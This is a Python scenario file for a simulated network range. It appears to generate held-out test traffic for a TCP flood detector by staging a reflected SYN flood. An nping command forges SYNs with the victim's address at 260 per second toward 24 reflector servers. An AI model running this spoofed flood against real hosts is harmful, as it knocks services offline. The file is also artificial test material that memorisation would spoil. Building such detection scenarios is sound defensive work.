"""Two dozen servers outside answer SYNs that an inside server never sent."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, victim, www = net.outside("attacker"), net.web(), net.outside("www")
    net.web(www)
    reflectors = [f"198.51.100.{number}" for number in range(200, 224)]
    for address in reflectors:
        www.run("ip", "address", "add", f"{address}/24", "dev", "eth0")
    net.everyday()
    with net.attack(
        "tcp-flood",
        by=www,
        victims=[victim],
        attacker_known=False,
        others={"reflector": reflectors, "claimed": [victim]},
        also=["amplification"],
        frames=f"tcp and dst host {victim.ip} and src port 443",
        responses=f"tcp and src host {victim.ip} and dst port 443",
    ):
        words = f"nping -q --tcp -S {victim.ip} -e eth0 --dest-mac {www.mac} --flags syn -p 443 --rate 260"
        net.tool(attacker, *words.split(), "-c", "70", *reflectors)
    net.quiet(3)


SCENARIO = Scenario(
    name="tcp-flood-held-reflected",
    about="24 servers outside send an inside one 260 SYN-ACKs a second for SYNs that nping forged.",
    detectors=("tcp-flood",),
    tools={"nping": "nmap"},
    held_out=True,
    snap_octets=80,
    run=run,
)
